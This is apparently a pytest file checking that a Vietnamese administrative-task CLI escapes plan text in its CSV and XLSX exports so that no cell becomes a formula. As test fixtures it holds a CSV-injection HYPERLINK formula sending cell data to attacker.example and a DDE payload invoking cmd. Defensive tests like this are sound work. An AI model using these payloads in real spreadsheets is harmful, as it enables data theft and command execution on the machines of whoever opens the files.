"""Spreadsheet exports: a plan's text never becomes a formula. Before, `export csv` wrote
`=HYPERLINK(…)` as it was and `export xlsx` made it a live formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest

from tests.conftest import SMALL_PLAN
from tests.hostile.helpers import cchc

LINK = '=HYPERLINK("http://attacker.example/?q="&A1,"Xem hướng dẫn")'
DDE = "-2+3+cmd|' /C calc'!A0"
HOSTILE = (
    SMALL_PLAN.replace("task: Rà soát văn bản quy phạm pháp luật của Sở", f"task: '{LINK}'")
    .replace("output: Báo cáo rà soát", f'output: "{DDE}"')
    .replace("output: Kế hoạch kiểm tra", "output: '@SUM(1+1)'")
    .replace("task: Kiểm tra công tác cải cách hành chính", 'task: "- Bước 1: kiểm tra\\n- Bước 2: báo cáo"')
    .replace("output: Danh mục thủ tục", 'output: "+84 258 000 000"')
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def plan(tmp_path: Path) -> Path:
    path = tmp_path / "plan.yaml"
    path.write_text(HOSTILE, encoding="utf-8")
    return path


def test_csv_cells_cannot_start_a_formula(plan: Path, tmp_path: Path) -> None:
    out = tmp_path / "bang.csv"
    result = cchc("export", "csv", "--plan", str(plan), "--as-of", "01/06/2025", "-o", str(out))
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    header, body = rows[0], rows[1:]
    cells = [cell for row in body for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    column = {name: header.index(name) for name in ("Nhiệm vụ", "Kết quả/sản phẩm", "Hạn")}
    first = body[0]
    assert first[column["Nhiệm vụ"]] == "'" + LINK
    assert first[column["Kết quả/sản phẩm"]] == "'" + DDE
    assert first[column["Hạn"]] == "14/12/2025"  # a date, as before
    bullets = [row[column["Nhiệm vụ"]] for row in body if "Bước 1" in row[column["Nhiệm vụ"]]]
    assert bullets == ["'- Bước 1: kiểm tra\n- Bước 2: báo cáo"]  # decided: the quote, then the bullet


def test_xlsx_cells_are_text_never_formulas_and_dates_stay_dates(plan: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "bang.xlsx"
    result = cchc("export", "xlsx", "--plan", str(plan), "--as-of", "01/06/2025", "-o", str(out))
    assert result.exit_code == 0, result.output
    sheet = load_workbook(out).worksheets[0]
    header = [c.value for c in sheet[1]]
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    texts = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
    for value in (LINK, DDE, "@SUM(1+1)", "- Bước 1: kiểm tra\n- Bước 2: báo cáo", "+84 258 000 000"):
        cell = texts[value]  # the text itself, unchanged
        assert cell.data_type == "s" and cell.quotePrefix, value
    due = sheet.cell(row=2, column=header.index("Hạn") + 1)
    assert due.is_date and due.value.date() == dt.date(2025, 12, 14)
    assert sheet.cell(row=2, column=header.index("Mã") + 1).quotePrefix is False


def test_due_as_csv_is_safe_to_open_too(plan: Path) -> None:
    result = cchc("list", "--plan", str(plan), "--format", "csv")
    assert result.exit_code == 0
    cells = [c for row in csv.reader(io.StringIO(result.stdout)) for c in row]
    assert "'" + LINK in cells and not [c for c in cells if c.startswith(FORMULA_START)]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Báo cáo = 1", "Báo cáo = 1"),
        ("", ""),
        ("'=1", "'=1"),
    ],
)
def test_spreadsheet_text(text: str, shown: str) -> None:
    from cchc_cli.safetext import spreadsheet_text

    assert spreadsheet_text(text) == shown
